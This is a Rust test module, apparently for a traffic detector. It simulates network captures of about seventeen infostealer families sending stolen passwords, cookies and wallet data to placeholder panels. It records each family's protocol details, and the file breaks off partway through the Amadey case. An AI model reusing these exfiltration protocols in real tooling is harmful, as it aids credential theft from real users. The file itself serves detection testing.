//! Stealers that report to a web panel.

use super::{Case, VICTIM, finds};
use crate::net::{Net, noise, zip};
use crate::tls;
use crate::web::{browsing, end, once, part, program, request, response};
use base64::Engine as _;
use base64::engine::general_purpose::STANDARD as B64;

const EXFIL: &[&str] = &["exfiltration"];

pub fn cases() -> Vec<Case> {
    vec![
        Case {
            name: "redline-soap",
            about: "RedLine of 2021: SOAP calls to a bare address on an odd port, settings, then the loot as XML.",
            expect: finds("203.0.113.20", Some("RedLine"), EXFIL, "high"),
            wire: redline,
        },
        Case {
            name: "oski",
            about: "Oski: libraries fetched by POST with an empty multipart body, then the loot as a ZIP.",
            expect: finds("203.0.113.21", Some("Oski"), EXFIL, "high"),
            wire: oski,
        },
        Case {
            name: "vidar-2018",
            about: "Vidar 1: configuration, six libraries, place lookup, one multipart POST with counters and a ZIP.",
            expect: finds("panel.example", Some("Vidar"), EXFIL, "high"),
            wire: vidar_old,
        },
        Case {
            name: "vidar-2025",
            about: "Vidar of 2025: two dead drops in TLS, then TLS without a name to a bare address, uploads in many requests.",
            expect: finds("203.0.113.23", None, EXFIL, "medium"),
            wire: vidar_new,
        },
        Case {
            name: "azorult-v3",
            about: "AZORult 3: a short XORed POST with its fixed user agent, 2 MB back, then the report.",
            expect: finds("203.0.113.24", Some("AZORult"), EXFIL, "high"),
            wire: azorult,
        },
        Case {
            name: "lokibot",
            about: "LokiBot: HTTP/1.0 POSTs answered with 404, a report with loot, then polls each minute.",
            expect: finds("loki.example", Some("LokiBot"), EXFIL, "high"),
            wire: lokibot,
        },
        Case {
            name: "formbook",
            about: "FormBook: one path over many unrelated names, GET with a long query, then two POSTs.",
            expect: finds("203.0.113.40", Some("FormBook"), EXFIL, "medium"),
            wire: formbook,
        },
        Case {
            name: "raccoon-v1",
            about: "Raccoon 1: params in base64, libraries, then data.zip with the comma in its header.",
            expect: finds("203.0.113.26", Some("Raccoon"), EXFIL, "high"),
            wire: raccoon1,
        },
        Case {
            name: "raccoon-v2",
            about: "Raccoon 2: machineId and configId, seven libraries from one folder, one POST for each piece of loot.",
            expect: finds("203.0.113.27", Some("Raccoon"), EXFIL, "high"),
            wire: raccoon2,
        },
        Case {
            name: "stealc-v1",
            about: "StealC 1: many multipart POSTs to one sixteen-digit path, files in base64.",
            expect: finds("203.0.113.28", Some("StealC"), EXFIL, "high"),
            wire: stealc1,
        },
        Case {
            name: "stealc-v2",
            about: "StealC 2: JSON by name, base64 by content, one path.",
            expect: finds("203.0.113.29", Some("StealC"), EXFIL, "medium"),
            wire: stealc2,
        },
        Case {
            name: "lumma-v4",
            about: "Lumma 4: act=life, act=recive_message, then multipart uploads.",
            expect: finds("lumma.example", Some("Lumma"), EXFIL, "high"),
            wire: lumma4,
        },
        Case {
            name: "lumma-v6",
            about: "Lumma 6: uid and cid forms, encrypted multipart parts, short messages, tasks.",
            expect: finds("quiet-lake.example", Some("Lumma"), EXFIL, "medium"),
            wire: lumma6,
        },
        Case {
            name: "amos",
            about: "AMOS on a Mac: curl posts /tmp/out.zip with user and BuildID headers to a bare address.",
            expect: finds("203.0.113.31", Some("AMOS"), EXFIL, "high"),
            wire: amos,
        },
        Case {
            name: "amadey",
            about: "Amadey: 80-byte forms each minute, a plugin fetched, credentials posted.",
            expect: finds("203.0.113.32", Some("Amadey"), &["beacon"], "medium"),
            wire: amadey,
        },
        Case {
            name: "trickbot-http",
            about: "TrickBot's data port: multipart lists of processes and passwords under its path grammar.",
            expect: finds("203.0.113.33", Some("TrickBot"), EXFIL, "high"),
            wire: trickbot,
        },
        Case {
            name: "hancitor",
            about: "Hancitor: public address asked, then GUID, BUILD and INFO each two minutes over three names.",
            expect: finds("203.0.113.34", Some("Hancitor"), &["c2"], "medium"),
            wire: hancitor,
        },
    ]
}

fn loot(extra: usize) -> Vec<u8> {
    zip(&[
        (
            "information.txt",
            b"Version: 1\r\nMachineID: 0000-EXAMPLE\r\nComputer: EXAMPLE-PC\r\nUser: erika\r\n",
        ),
        (
            "passwords.txt",
            b"Soft: Browser\r\nHost: https://shop.example/\r\nLogin: erika\r\nPassword: not-a-secret\r\n\r\n",
        ),
        ("Cookies/Chrome_Default.txt", b".shop.example\tTRUE\t/\tFALSE\t1800000000\tid\tnothing\n"),
        ("Autofill/Chrome_Default.txt", b"name\tErika\n"),
        ("screenshot.jpg", &[&[0xff, 0xd8, 0xff, 0xe0][..], &noise(5, extra)].concat()),
    ])
}

fn redline(net: &mut Net) {
    browsing(net, VICTIM);
    let mut tcp = net.tcp(VICTIM, "203.0.113.20:35211");
    let call = |net: &mut Net, tcp: &mut crate::net::Tcp, action: &str, body: &[u8], answer: &[u8]| {
        let action = format!("SOAPAction: \"http://tempuri.org/Endpoint/{action}\"");
        request(
            net,
            tcp,
            "POST /",
            &[
                "Content-Type: text/xml; charset=utf-8",
                &action,
                "Host: 203.0.113.20:35211",
                "Expect: 100-continue",
                "Accept-Encoding: gzip, deflate",
            ],
            body,
        );
        response(net, tcp, "200 OK", "text/xml; charset=utf-8", answer);
    };
    let soap = |inner: &str| {
        format!("<s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\"><s:Body>{inner}</s:Body></s:Envelope>").into_bytes()
    };
    call(
        net,
        &mut tcp,
        "CheckConnect",
        &soap("<CheckConnect xmlns=\"http://tempuri.org/\"/>"),
        &soap("<CheckConnectResult>true</CheckConnectResult>"),
    );
    net.wait_ms(900);
    call(
        net,
        &mut tcp,
        "EnvironmentSettings",
        &soap("<EnvironmentSettings xmlns=\"http://tempuri.org/\"/>"),
        &soap(&"<b:string>%USERPROFILE%\\AppData</b:string>".repeat(90)),
    );
    net.wait_ms(4200);
    let mut body =
        String::from("<SetEnvironment xmlns=\"http://tempuri.org/\"><user><Hardware>EXAMPLE</Hardware>");
    for n in 0..900 {
        body += &format!(
            "<Login><URL>https://site{n}.example/</URL><Username>erika</Username><Password>not-a-secret</Password></Login>"
        );
    }
    call(
        net,
        &mut tcp,
        "SetEnvironment",
        &soap(&(body + "</user></SetEnvironment>")),
        &soap("<SetEnvironmentResponse/>"),
    );
    net.close(tcp);
}

const ARKEI: &[&str] = &[
    "Accept: text/html, application/xml;q=0.9, application/xhtml+xml, image/png, image/jpeg, image/gif, image/x-xbitmap, */*;q=0.1",
    "Accept-Language: ru-RU,ru;q=0.9,en;q=0.8",
    "Accept-Charset: iso-8859-1, utf-8, utf-16, *;q=0.1",
    "Accept-Encoding: deflate, gzip, x-gzip, identity, *;q=0",
    "Content-Type: multipart/form-data; boundary=1BEF0A57BE110FD467A",
    "Connection: Keep-Alive",
    "Cache-Control: no-cache",
];

fn oski(net: &mut Net) {
    browsing(net, VICTIM);
    let mut tcp = net.tcp(VICTIM, "203.0.113.21:80");
    let mut headers = vec!["Host: 203.0.113.21"];
    headers.extend(ARKEI);
    for (n, library) in
        ["sqlite3", "freebl3", "mozglue", "msvcp140", "nss3", "softokn3", "vcruntime140"].iter().enumerate()
    {
        request(net, &mut tcp, &format!("POST /{library}.dll"), &headers, b"--1BEF0A57BE110FD467A--\r\n");
        response(net, &mut tcp, "200 OK", "application/x-msdos-program", &program(3000 + 400 * n));
        net.wait_ms(400);
    }
    request(net, &mut tcp, "POST /main.php", &headers, b"--1BEF0A57BE110FD467A--\r\n");
    response(net, &mut tcp, "200 OK", "text/html", b"1;USERPROFILE\\Desktop;*.txt;");
    net.wait_ms(600);
    let mut body = part("1BEF0A57BE110FD467A", "file", Some(("_4711081542.zip", "zip")), &loot(31_000));
    body.extend(end("1BEF0A57BE110FD467A"));
    request(net, &mut tcp, "POST /", &headers, &body);
    response(net, &mut tcp, "200 OK", "text/html", b"");
    net.close(tcp);
}

fn vidar_old(net: &mut Net) {
    browsing(net, VICTIM);
    net.resolve(VICTIM, "panel.example", "203.0.113.22");
    let mut tcp = net.tcp(VICTIM, "203.0.113.22:80");
    let mut headers = vec!["Host: panel.example"];
    headers.extend(ARKEI);
    request(net, &mut tcp, "POST /517", &headers, b"--1BEF0A57BE110FD467A--\r\n");
    response(
        net,
        &mut tcp,
        "200 OK",
        "text/html",
        b"1,1,1,1,1,1,1,1,0,0,250,Default;%DESKTOP%\\;*.txt:*.dat;50;true;",
    );
    for library in ["freebl3", "mozglue", "msvcp140", "nss3", "softokn3", "vcruntime140"] {
        request(
            net,
            &mut tcp,
            &format!("GET /{library}.dll"),
            &["Host: panel.example", "Cache-Control: no-cache"],
            b"",
        );
        response(net, &mut tcp, "200 OK", "application/x-msdos-program", &program(4200));
        net.wait_ms(300);
    }
    net.resolve(VICTIM, "ip-api.com", "198.51.100.60");
    once(
        net,
        VICTIM,
        "198.51.100.60:80",
        (
            "POST /line/",
            &["Host: ip-api.com", "Content-Type: multipart/form-data; boundary=1BEF0A57BE110FD467A"],
            b"--1BEF0A57BE110FD467A--\r\n",
        ),
        ("200 OK", "text/plain", b"success\nExampleland\nEX\n"),
    );
    net.wait_ms(5200);
    let b = "1BEF0A57BE110FD467A";
    let mut body = Vec::new();
    for (name, value) in [
        ("hwid", "00000000-1111-2222-3333-444444444444"),
        ("os", "Windows 10 Pro"),
        ("platform", "x64"),
        ("profile", "517"),
        ("user", "erika"),
        ("cccount", "0"),
        ("ccount", "12"),
        ("fcount", "1"),
        ("telegram", "0"),
        ("ver", "34.9"),
    ] {
        body.extend(part(b, name, None, value.as_bytes()));
    }
    body.extend(part(
        b,
        "logs",
        Some(("EX_000000001111222233334444444444441234567890.zip", "zip")),
        &loot(58_000),
    ));
    body.extend(end(b));
    request(net, &mut tcp, "POST /", &headers, &body);
    response(net, &mut tcp, "200 OK", "text/html", b"ok");
    net.close(tcp);
}

fn vidar_new(net: &mut Net) {
    browsing(net, VICTIM);
    for (name, addr) in [("t.me", "198.51.100.61"), ("steamcommunity.com", "198.51.100.62")] {
        net.resolve(VICTIM, name, addr);
        let mut tcp = net.tcp(VICTIM, &format!("{addr}:443"));
        tls::open(net, &mut tcp, &tls::SYSTEM, Some(name), None);
        tls::data(net, &mut tcp, true, 220);
        tls::data(net, &mut tcp, false, 11_900);
        net.close(tcp);
        net.wait_ms(1100);
    }
    let own = tls::Cert {
        subject: &[("C", "XX"), ("CN", "203.0.113.23")],
        issuer: &[("C", "XX"), ("CN", "203.0.113.23")],
        from: "260201000000Z",
        until: "270201000000Z",
        names: &[],
    };
    for (up, down) in [
        (560, 240),
        (980, 5200),
        (1040, 4900),
        (760, 220),
        (18_400, 180),
        (43_100, 180),
        (156_000, 180),
        (9_400, 180),
    ] {
        let mut tcp = net.tcp(VICTIM, "203.0.113.23:443");
        tls::open(net, &mut tcp, &tls::SYSTEM, None, Some(&own));
        tls::data(net, &mut tcp, true, up);
        net.wait_ms(60);
        tls::data(net, &mut tcp, false, down);
        net.close(tcp);
        net.wait_ms(1900);
    }
}

fn azorult(net: &mut Net) {
    browsing(net, VICTIM);
    let headers = [
        "User-Agent: Mozilla/4.0 (compatible; MSIE 6.0b; Windows NT 5.1)",
        "Host: 203.0.113.24",
        "Cache-Control: no-cache",
    ];
    let text = b"G[EXAMPLE]PC-0815-ERIKA-000000-1111-2222-3333-4444-55555555-66666666-7777-88888888-99999999-abcdefgh";
    let xored: Vec<u8> = text.iter().zip([0x03, 0x55, 0xae].iter().cycle()).map(|(a, b)| a ^ b).collect();
    let mut hello = b"\0\0\0".to_vec();
    hello.extend(xored);
    hello.truncate(101);
    let mut tcp = net.tcp(VICTIM, "203.0.113.24:80");
    request(net, &mut tcp, "POST /panel/index.php", &headers, &hello);
    response(net, &mut tcp, "200 OK", "text/html", &noise(3, 60_000));
    net.close(tcp);
    net.wait_ms(6100);
    let report: Vec<u8> =
        loot(24_000).iter().zip([0x03, 0x55, 0xae].iter().cycle()).map(|(a, b)| a ^ b).collect();
    let mut tcp = net.tcp(VICTIM, "203.0.113.24:80");
    request(net, &mut tcp, "POST /panel/index.php", &headers, &[b"\0\0\0", &report[..]].concat());
    response(net, &mut tcp, "200 OK", "text/html", b"OK");
    net.close(tcp);
}

fn lokibot(net: &mut Net) {
    browsing(net, VICTIM);
    net.resolve(VICTIM, "loki.example", "203.0.113.25");
    let report = |net: &mut Net, kind: u8, length: usize| {
        let mut body = vec![0x12, 0, kind, 0, 0, 0, 0x0a, 0, 0, 0];
        body.extend(b"XXXXX11111");
        for text in ["erika", "EXAMPLE-PC", "EXAMPLE-PC"] {
            let wide: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
            body.extend([1, 0]);
            body.extend((wide.len() as u32).to_le_bytes());
            body.extend(wide);
        }
        let room = length.saturating_sub(body.len());
        body.extend(noise(length as u64, room));
        let head = format!(
            "POST /five/fre.php HTTP/1.0\r\nUser-Agent: Mozilla/4.08 (Charon; Inferno)\r\nHost: loki.example\r\nAccept: */*\r\nContent-Type: application/octet-stream\r\nContent-Encoding: binary\r\nContent-Key: 1A2B3C4D\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
            body.len()
        );
        let mut tcp = net.tcp(VICTIM, "203.0.113.25:80");
        net.up(&mut tcp, head.as_bytes());
        net.up(&mut tcp, &body);
        net.wait_ms(40);
        net.down(&mut tcp, b"HTTP/1.0 404 Not Found\r\nServer: nginx\r\nContent-Type: text/html\r\nConnection: close\r\n\r\n\x08\0\0\0\0\0\0\0File not found.");
        net.close(tcp);
    };
    report(net, 0x27, 4312);
    net.wait_ms(900);
    report(net, 0x27, 176);
    for beat in 0..8 {
        net.wait_ms(60_000 + 300 * beat);
        report(net, 0x28, 149);
    }
}

fn formbook(net: &mut Net) {
    browsing(net, VICTIM);
    let names = [
        "www.alpine-goats.example",
        "www.blue-tiles.example",
        "www.cider-hill.test",
        "www.door-stop.example",
        "www.elm-works.test",
        "www.first-aid-kit.example",
        "www.grape-jam.test",
        "www.hat-box.example",
    ];
    for (n, name) in names.iter().enumerate() {
        let addr = format!("203.0.113.{}", 40 + n);
        net.resolve(VICTIM, name, &addr);
        let server = format!("{addr}:80");
        let host = format!("Host: {name}");
        let query = B64.encode(noise(70 + n as u64, 54)).replace('+', "-").replace('/', "_");
        let line = format!("GET /k7s/?Zx2Lq={}&4hP=TVrpX8", query.trim_end_matches('='));
        once(
            net,
            VICTIM,
            &server,
            (&line, &[&host, "Connection: close"], b""),
            ("404 Not Found", "text/html", b"<html><body>404 Not Found</body></html>"),
        );
        net.wait_ms(2500);
        let (origin, referer) = (format!("Origin: http://{name}"), format!("Referer: http://{name}/k7s/"));
        let headers = [
            &host,
            "Connection: close",
            "Cache-Control: no-cache",
            &origin,
            "User-Agent: Mozilla/5.0 (Windows NT 6.1; Trident/7.0; rv:11.0) like Gecko",
            "Content-Type: application/x-www-form-urlencoded",
            "Accept: */*",
            &referer,
            "Accept-Language: en-US",
            "Accept-Encoding: gzip, deflate",
        ];
        for size in [200, 22_000] {
            let body = format!(
                "Zx2Lq={}",
                B64.encode(noise(size as u64, size)).replace('=', "~").replace('/', "_").replace('+', "-")
            );
            once(
                net,
                VICTIM,
                &server,
                ("POST /k7s/", &headers, body.as_bytes()),
                ("404 Not Found", "text/html", b"<html><body>404 Not Found</body></html>"),
            );
        }
        net.wait_ms(21_000 + 3_000 * n as u64);
    }
}

fn raccoon1(net: &mut Net) {
    browsing(net, VICTIM);
    let mut tcp = net.tcp(VICTIM, "203.0.113.26:80");
    let hello = format!("params={}", B64.encode("bot_id=00000000-1111-2222-3333-444444444444_erika&config_id=0123456789abcdef0123456789abcdef01234567&data=null"));
    request(
        net,
        &mut tcp,
        "POST /gate/log.php",
        &[
            "Cache-Control: no-cache",
            "Connection: Keep-Alive",
            "Pragma: no-cache",
            "Content-Type: application/x-www-form-urlencoded",
            "Host: 203.0.113.26",
        ],
        hello.as_bytes(),
    );
    response(net, &mut tcp, "200 OK", "application/json", br#"{"url":"http://203.0.113.26/file_handler4/file.php?hash=0123456789abcdef0123456789abcdef01234567","attachment_url":"http://203.0.113.26/gate/sqlite3.dll","libraries":"http://203.0.113.26/gate/libs.zip","ip":"192.0.2.10","config":{"masks":null,"loader_urls":null}}"#);
    for (path, body) in [
        ("/gate/sqlite3.dll", program(9000)),
        (
            "/gate/libs.zip",
            zip(&[
                ("nss3.dll", &program(5000)),
                ("softokn3.dll", &program(3000)),
                ("mozglue.dll", &program(3000)),
            ]),
        ),
    ] {
        request(
            net,
            &mut tcp,
            &format!("GET {path}"),
            &[
                "User-Agent: Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 10.0)",
                "Host: 203.0.113.26",
                "Cache-Control: no-cache",
            ],
            b"",
        );
        response(net, &mut tcp, "200 OK", "application/octet-stream", &body);
        net.wait_ms(700);
    }
    net.wait_ms(9000);
    let b = "4k683b59nd0j79804345";
    let archive = zip(&[
        ("browsers/cookies/chrome_default.txt", &noise(1, 700)[..]),
        ("browsers/chrome_urls.txt", b"https://shop.example/\n"),
        ("passwords.txt", b"URL: https://shop.example/\n"),
        ("System Info.txt", b"System Information:\n - User: erika\n"),
    ]);
    let mut body = part(b, "file", Some(("data.zip", "application/octet-stream")), &archive);
    body.extend(end(b));
    request(
        net,
        &mut tcp,
        "POST /file_handler4/file.php?hash=0123456789abcdef0123456789abcdef01234567&js=89abcdef0123456789abcdef0123456789abcdef&callback=http://203.0.113.26/gate",
        &[
            "Cache-Control: no-cache",
            "Connection: Keep-Alive",
            "Pragma: no-cache",
            "Content-Type: multipart/form-data, boundary=4k683b59nd0j79804345",
            "Host: 203.0.113.26",
        ],
        &body,
    );
    response(net, &mut tcp, "200 OK", "text/html", b"");
    net.close(tcp);
}

fn raccoon2(net: &mut Net) {
    browsing(net, VICTIM);
    let mut tcp = net.tcp(VICTIM, "203.0.113.27:80");
    let agent = "User-Agent: record";
    request(
        net,
        &mut tcp,
        "POST /",
        &[
            "Accept: */*",
            "Content-Type: application/x-www-form-urlencoded; charset=utf-8",
            agent,
            "Host: 203.0.113.27",
            "Connection: Keep-Alive",
            "Cache-Control: no-cache",
        ],
        b"machineId=00000000-1111-2222-3333-444444444444|erika&configId=0123456789abcdef0123456789abcdef",
    );
    let folder = "aN7jD0qO6kT5bK5bQ4eR8fE1xP7hL2vK";
    let mut config = String::new();
    for library in ["nss3", "msvcp140", "vcruntime140", "mozglue", "freebl3", "softokn3", "sqlite3"] {
        config += &format!("libs_{library}:http://203.0.113.27/{folder}/{library}.dll\n");
    }
    config += "ews_wallet:example;Example Wallet;Local Extension Settings\nscrnsht_Screenshot.jpeg:1\ntoken:fedcba9876543210fedcba9876543210\n";
    response(net, &mut tcp, "200 OK", "text/html; charset=utf-8", config.as_bytes());
    for library in ["nss3", "msvcp140", "vcruntime140", "mozglue", "freebl3", "softokn3", "sqlite3"] {
        request(
            net,
            &mut tcp,
            &format!("GET /{folder}/{library}.dll"),
            &[
                "Content-Type: text/plain;",
                agent,
                "Host: 203.0.113.27",
                "Connection: Keep-Alive",
                "Cache-Control: no-cache",
            ],
            b"",
        );
        response(net, &mut tcp, "200 OK", "application/octet-stream", &program(4000));
    }
    for (name, data) in [
        (
            "System Info.txt",
            b"System Information:\n- Locale: English\n- Time zone: 1\n- OS: Windows 10\n".to_vec(),
        ),
        ("\\cookies.txt", b".shop.example\tTRUE\t/\tFALSE\t1800000000\tid\tnothing\n".repeat(40)),
        ("\\passwords.txt", b"URL:https://shop.example/\nUSR:erika\nPASS:nothing\n\n".repeat(12)),
        ("---Screenshot.jpeg", [&[0xff, 0xd8, 0xff, 0xe0][..], &noise(9, 40_000)].concat()),
    ] {
        net.wait_ms(800);
        let b = "h2K9sLq0ZxV7tB3n";
        let mut body = part(b, "file", Some((name, "application/x-object")), &data);
        body.extend(end(b));
        request(
            net,
            &mut tcp,
            "POST /fedcba9876543210fedcba9876543210",
            &[
                "Accept: */*",
                "Content-Type: multipart/form-data; boundary=h2K9sLq0ZxV7tB3n",
                agent,
                "Host: 203.0.113.27",
                "Connection: Keep-Alive",
                "Cache-Control: no-cache",
            ],
            &body,
        );
        response(net, &mut tcp, "200 OK", "text/html", b"received");
    }
    net.close(tcp);
}

fn stealc1(net: &mut Net) {
    browsing(net, VICTIM);
    let mut tcp = net.tcp(VICTIM, "203.0.113.28:80");
    let b = "----AFBKKEBAKJDGHJJKFIDG";
    let kind = format!("Content-Type: multipart/form-data; boundary={b}");
    let say = |net: &mut Net, tcp: &mut crate::net::Tcp, fields: &[(&str, &str)], answer: &str| {
        let mut body: Vec<u8> =
            fields.iter().flat_map(|(name, value)| part(b, name, None, value.as_bytes())).collect();
        body.extend(end(b));
        request(
            net,
            tcp,
            "POST /1f4b7a90c2d3e5f6.php",
            &[&kind, "Host: 203.0.113.28", "Connection: Keep-Alive", "Cache-Control: no-cache"],
            &body,
        );
        response(net, tcp, "200 OK", "text/html; charset=UTF-8", answer.as_bytes());
        net.wait_ms(350);
    };
    let token = "a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4";
    say(
        net,
        &mut tcp,
        &[("hwid", "0A1B2C3D4E5F60718293"), ("build", "default")],
        &B64.encode(format!("{token}|done|file.txt|1|1|1|1|0|")),
    );
    for ask in ["browsers", "plugins", "fplugins"] {
        say(
            net,
            &mut tcp,
            &[("token", token), ("message", ask)],
            &B64.encode("Browser|\\Browser\\User Data|chromium|browser.exe|".repeat(30)),
        );
    }
    for library in ["sqlite3", "freebl3", "mozglue", "msvcp140", "nss3", "softokn3", "vcruntime140"] {
        request(
            net,
            &mut tcp,
            &format!("GET /9c8b7a6f5e4d3c2b/{library}.dll"),
            &["Host: 203.0.113.28", "Cache-Control: no-cache"],
            b"",
        );
        response(net, &mut tcp, "200 OK", "application/x-msdos-program", &program(4100));
    }
    let say = |net: &mut Net, tcp: &mut crate::net::Tcp, name: &str, data: &[u8]| {
        let mut body = part(b, "token", None, token.as_bytes());
        body.extend(part(b, "file_name", None, B64.encode(name).as_bytes()));
        body.extend(part(b, "file", None, B64.encode(data).as_bytes()));
        body.extend(end(b));
        request(
            net,
            tcp,
            "POST /1f4b7a90c2d3e5f6.php",
            &[&kind, "Host: 203.0.113.28", "Connection: Keep-Alive", "Cache-Control: no-cache"],
            &body,
        );
        response(net, tcp, "200 OK", "text/html; charset=UTF-8", b"b2s=");
        net.wait_ms(350);
    };
    say(net, &mut tcp, "system_info.txt", b"Network Info:\n\t- IP: IP?\n\t- Country: ISO?\nSystem Summary:\n\t- HWID: 0A1B2C3D4E5F60718293\n\t- UserName: erika\n\t- Computer Name: EXAMPLE-PC\n");
    for n in 0..22 {
        say(
            net,
            &mut tcp,
            &format!("cookies/Browser_Profile{n}.txt"),
            &b".shop.example\tTRUE\t/\tFALSE\t1800000000\tid\tnothing\n".repeat(20 + n),
        );
    }
    say(net, &mut tcp, "passwords.txt", &b"browser: Browser\nprofile: Default\nurl: https://shop.example/\nlogin: erika\npassword: nothing\n\n".repeat(9));
    say(net, &mut tcp, "screenshot.jpg", &[&[0xff, 0xd8, 0xff, 0xe0][..], &noise(12, 30_000)].concat());
    net.close(tcp);
}

fn stealc2(net: &mut Net) {
    browsing(net, VICTIM);
    let mut tcp = net.tcp(VICTIM, "203.0.113.29:80");
    for (up, down) in [
        (150, 3400),
        (2100, 120),
        (38_000, 60),
        (21_000, 60),
        (64_000, 60),
        (9_000, 60),
        (4_400, 60),
        (130, 90),
    ] {
        request(
            net,
            &mut tcp,
            "POST /0b1c2d3e4f506172.php",
            &[
                "Content-Type: application/json",
                "Host: 203.0.113.29",
                "Connection: Keep-Alive",
                "Cache-Control: no-cache",
            ],
            B64.encode(noise(up as u64, up)).as_bytes(),
        );
        response(
            net,
            &mut tcp,
            "200 OK",
            "text/html; charset=UTF-8",
            B64.encode(noise(down as u64 + 9, down)).as_bytes(),
        );
        net.wait_ms(900);
    }
    net.close(tcp);
}

fn lumma4(net: &mut Net) {
    browsing(net, VICTIM);
    for dead in ["still-pond.example", "low-bridge.example", "far-mill.example"] {
        net.dns(VICTIM, dead, 1, 3, &[]);
        net.wait_ms(300);
    }
    net.resolve(VICTIM, "lumma.example", "203.0.113.30");
    let agent = "User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36";
    let form = [
        "Connection: Keep-Alive",
        "Content-Type: application/x-www-form-urlencoded",
        agent,
        "Host: lumma.example",
    ];
    once(
        net,
        VICTIM,
        "203.0.113.30:80",
        ("POST /api", &form, b"act=life"),
        ("200 OK", "text/html; charset=UTF-8", b"ok\r\n"),
    );
    let config = B64.encode(noise(41, 9000));
    once(
        net,
        VICTIM,
        "203.0.113.30:80",
        ("POST /api", &form, b"act=recive_message&ver=4.0&lid=EXMPL0--test&j=default"),
        ("200 OK", "text/html; charset=UTF-8", config.as_bytes()),
    );
    for (pid, size) in [("2", 900), ("3", 14_000), ("3", 52_000), ("1", 121_000)] {
        let b = "be85de5ipdocierre1";
        let mut body = Vec::new();
        for (name, value) in [
            ("hwid", "0123456789ABCDEF0123456789ABCDEF"),
            ("pid", pid),
            ("lid", "EXMPL0--test"),
            ("act", "send_message"),
        ] {
            body.extend(part(b, name, None, value.as_bytes()));
        }
        body.extend(part(
            b,
            "file",
            Some(("file", "attachment/x-object")),
            &zip(&[
                (
                    "System.txt",
                    b"- PC: EXAMPLE-PC\n- User: erika\n- HWID: 0123456789ABCDEF0123456789ABCDEF\n",
                ),
                ("Chrome/Default/Passwords.txt", b""),
                ("Chrome/Default/Cookies.txt", &noise(size as u64, size)),
            ]),
        ));
        body.extend(end(b));
        let kind = format!("Content-Type: multipart/form-data; boundary={b}");
        once(
            net,
            VICTIM,
            "203.0.113.30:80",
            ("POST /api", &["Connection: Keep-Alive", &kind, agent, "Host: lumma.example"], &body),
            ("200 OK", "text/html; charset=UTF-8", b"ok 192.0.2.10"),
        );
        net.wait_ms(1400);
    }
    once(
        net,
        VICTIM,
        "203.0.113.30:80",
        (
            "POST /api",
            &form,
            b"act=get_message&ver=4.0&lid=EXMPL0--test&j=default&hwid=0123456789ABCDEF0123456789ABCDEF",
        ),
        ("200 OK", "text/html; charset=UTF-8", b"W10="),
    );
}

fn lumma6(net: &mut Net) {
    browsing(net, VICTIM);
    net.resolve(VICTIM, "quiet-lake.example", "203.0.113.36");
    let agent = "User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/109.0.0.0 Safari/537.36";
    let form = [
        "Cache-Control: no-cache",
        "Connection: Keep-Alive",
        "Pragma: no-cache",
        "Content-Type: application/x-www-form-urlencoded",
        agent,
        "Host: quiet-lake.example",
    ];
    let uid = "0123456789abcdef0123456789abcdef0123456789abcdef";
    let hello = format!("uid={uid}&cid=00112233445566778899aabbccddeeff");
    once(
        net,
        VICTIM,
        "203.0.113.36:80",
        ("POST /zpah", &form, hello.as_bytes()),
        ("200 OK", "application/octet-stream", &noise(51, 8200)),
    );
    for (pid, size) in [("2", 1500), ("3", 21_000), ("3", 33_000), ("1", 96_000)] {
        let b = "Zk3vT9qLm2XwB7";
        let mut body = Vec::new();
        for (name, value) in [("uid", uid), ("pid", pid), ("hwid", "0123456789ABCDEF0123456789ABCDEF")] {
            body.extend(part(b, name, None, value.as_bytes()));
        }
        body.extend(part(b, "file", Some(("data", "application/octet-stream")), &noise(size as u64, size)));
        body.extend(end(b));
        let kind = format!("Content-Type: multipart/form-data; boundary={b}");
        once(
            net,
            VICTIM,
            "203.0.113.36:80",
            (
                "POST /zpah",
                &[
                    "Cache-Control: no-cache",
                    "Connection: Keep-Alive",
                    "Pragma: no-cache",
                    &kind,
                    agent,
                    "Host: quiet-lake.example",
                ],
                &body,
            ),
            (
                "200 OK",
                "text/plain",
                br#"{"success":{"message":"message success delivery from 192.0.2.10"}}"#,
            ),
        );
        net.wait_ms(1200);
    }
    let tasks = format!("{hello}&hwid=0123456789ABCDEF0123456789ABCDEF");
    once(
        net,
        VICTIM,
        "203.0.113.36:80",
        ("POST /zpah", &form, tasks.as_bytes()),
        ("200 OK", "application/octet-stream", &noise(52, 60)),
    );
}

fn amos(net: &mut Net) {
    let b = "------------------------d74496d66958873e";
    let archive = zip(&[
        ("Passwords.txt", b"URL: https://shop.example/\nUser: erika\nPass: nothing\n"),
        ("Chromium/Default/Cookies", &noise(61, 20_000)),
        ("Chromium/Default/Login Data", &noise(62, 18_000)),
        ("deskwallets/Exodus/seed.seco", &noise(63, 900)),
        ("Telegram Data/key_datas", &noise(64, 388)),
        ("info", b"Build Tag: test\nsystem_profiler\n"),
        ("FileGrabber/notes.txt", b"nothing"),
    ]);
    let mut body = part(b, "file", Some(("out.zip", "application/octet-stream")), &archive);
    body.extend(end(b));
    let kind = format!("Content-Type: multipart/form-data; boundary={b}");
    once(
        net,
        VICTIM,
        "203.0.113.31:80",
        (
            "POST /joinsystem",
            &[
                "Host: 203.0.113.31",
                "User-Agent: curl/8.7.1",
                "Accept: */*",
                "user: ZXhhbXBsZS11c2VyLTAwMDAwMDAwMDAwMDAwMDAwMDA=",
                "BuildID: ZXhhbXBsZS1idWlsZC0wMDAwMDAwMDAwMDAwMDAwMDA=",
                "cl: 0",
                "cn: 0",
                &kind,
            ],
            &body,
        ),
        ("200 OK", "text/plain", b"ok"),
    );
}

fn amadey(net: &mut Net) {
    browsing(net, VICTIM);
    let headers = ["Content-Type: application/x-www-form-urlencoded", "Host: 203.0.113.32"];
    let poll = b"id=108273645500&vs=2.11&sd=0a1b2c&os=1&bi=1&ar=1&pc=EXAMPLE-PC&un=erika&dm=&av=0&lv=0";
    for beat in 0..9 {
        once(
            net,
            VICTIM,
            "203.0.113.32:80",
            ("POST /k8FppT/index.php", &headers, poll),
            ("200 OK", "text/html; charset=UTF-8", b"<c><d>"),
        );
        if beat == 1 {
            once(
                net,
                VICTIM,
